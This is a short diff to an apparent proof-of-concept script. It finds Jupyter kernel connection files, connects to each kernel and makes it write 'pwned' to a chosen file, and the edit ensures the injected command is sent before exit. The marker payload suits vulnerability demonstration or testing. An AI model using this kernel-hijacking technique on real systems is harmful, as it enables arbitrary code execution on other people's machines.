@@ -552,9 +552,12 @@ for path in found:
     try:
         client = BlockingKernelClient()
         client.load_connection_file(path)
-        client.start_channels()
+        client.start_channels(iopub=False, stdin=False, hb=False, control=False)
         client.execute(f"open({sys.argv[2]!r}, 'w').write('pwned')")
-        client.shell_channel.socket.close(linger=30000)  # returns once the message is sent
+        # The kernel is busy running this very command, so no reply can come: make sure the
+        # message has left before the process ends (term waits for it, up to the linger).
+        client.shell_channel.socket.close(linger=30000)
+        client.context.term()
         print("queued on", path)
     except OSError as e:
         print("cannot read", path, e)
